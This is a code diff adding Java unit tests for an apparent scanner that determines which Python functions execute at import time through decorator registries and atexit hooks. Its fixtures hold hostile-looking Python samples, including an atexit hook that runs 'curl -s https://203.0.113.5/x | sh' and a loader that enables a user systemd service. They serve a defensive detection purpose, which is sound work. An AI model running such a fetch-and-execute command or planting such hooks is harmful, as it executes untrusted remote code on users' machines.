@@ -475,6 +475,83 @@ class EntryPointsTest {
         assertThat(entryPoints.moduleTrigger("h-1/x.py")).isEqualTo(Trigger.NONE);
     }
 
+    private static final String REGISTRY = """
+            _LOADERS = []
+            _BY_NAME = {}
+            def on_load(fn):
+                _LOADERS.append(fn)
+                return fn
+            def named(fn):
+                _BY_NAME[fn.__name__] = fn
+                return fn
+            def run_loaders():
+                for fn in _LOADERS:
+                    fn()
+            def run_named():
+                for name, fn in _BY_NAME.items():
+                    fn()
+            """;
+    private static final String PLATFORM = """
+            import os
+            from ._registry import on_load, named
+            @on_load
+            def _service():
+                os.system('systemctl --user enable agent')
+            @named
+            def _kept():
+                os.system('echo kept')
+            def _plain():
+                os.system('echo plain')
+            """;
+
+    @Test
+    void aFunctionRegisteredWithAnotherModulesDecoratorRunsWhenItsRunnerRunsWhateverTheOrder() {
+        for (boolean registryFirst : List.of(true, false)) {
+            EntryPoints entryPoints = new EntryPoints(List.of("r-1/r/__init__.py", "r-1/r/_registry.py", "r-1/r/_platform.py"));
+            entryPoints.reach("r-1/r/__init__.py", model("""
+                    from ._registry import run_loaders
+                    from . import _platform
+                    run_loaders()
+                    """), entryPoints.moduleTrigger("r-1/r/__init__.py"));
+            if (registryFirst) {
+                entryPoints.reach("r-1/r/_registry.py", model(REGISTRY), entryPoints.moduleTrigger("r-1/r/_registry.py"));
+            }
+            int before = entryPoints.changes("r-1/r/_platform.py");
+            EntryPoints.Reach platform = entryPoints.reach("r-1/r/_platform.py", model(PLATFORM), entryPoints.moduleTrigger("r-1/r/_platform.py"));
+            if (!registryFirst) {
+                entryPoints.reach("r-1/r/_registry.py", model(REGISTRY), entryPoints.moduleTrigger("r-1/r/_registry.py"));
+            }
+            // As the scanner does: a file whose marks grew since its reach was computed is reached again.
+            assertThat(entryPoints.changes("r-1/r/_platform.py")).isGreaterThan(before);
+            platform = entryPoints.reach("r-1/r/_platform.py", model(PLATFORM), entryPoints.moduleTrigger("r-1/r/_platform.py"));
+            assertThat(platform.trigger("_service")).as("registry first: %s", registryFirst).isEqualTo(Trigger.IMPORT);
+            // Registered where no code that runs calls the items (run_named is never called), or not registered.
+            assertThat(platform.trigger("_kept")).isEqualTo(Trigger.NONE);
+            assertThat(platform.trigger("_plain")).isEqualTo(Trigger.NONE);
+        }
+    }
+
+    @Test
+    void aRegistryNobodyRunsRunsNothing() {
+        EntryPoints entryPoints = new EntryPoints(List.of("r-1/r/__init__.py", "r-1/r/_registry.py", "r-1/r/_platform.py"));
+        entryPoints.reach("r-1/r/__init__.py", model("from . import _platform\n"), entryPoints.moduleTrigger("r-1/r/__init__.py"));
+        entryPoints.reach("r-1/r/_registry.py", model(REGISTRY), entryPoints.moduleTrigger("r-1/r/_registry.py"));
+        EntryPoints.Reach platform = entryPoints.reach("r-1/r/_platform.py", model(PLATFORM), entryPoints.moduleTrigger("r-1/r/_platform.py"));
+        assertThat(platform.trigger("_service")).isEqualTo(Trigger.NONE);
+    }
+
+    @Test
+    void anExitHookAppliedAsAnImportedDecoratorRunsThen() {
+        EntryPoints entryPoints = new EntryPoints(List.of("x-1/x/__init__.py"));
+        EntryPoints.Reach init = entryPoints.reach("x-1/x/__init__.py", model("""
+                import atexit, os
+                @atexit.register
+                def _bye():
+                    os.system('curl -s https://203.0.113.5/x | sh')
+                """), entryPoints.moduleTrigger("x-1/x/__init__.py"));
+        assertThat(init.trigger("_bye")).isEqualTo(Trigger.IMPORT);
+    }
+
     @Test
     void aFunctionOfAnotherModuleStartedAsAThreadRunsThen() {
         EntryPoints entryPoints = new EntryPoints(List.of("t-1/t/__init__.py", "t-1/t/main.py"));
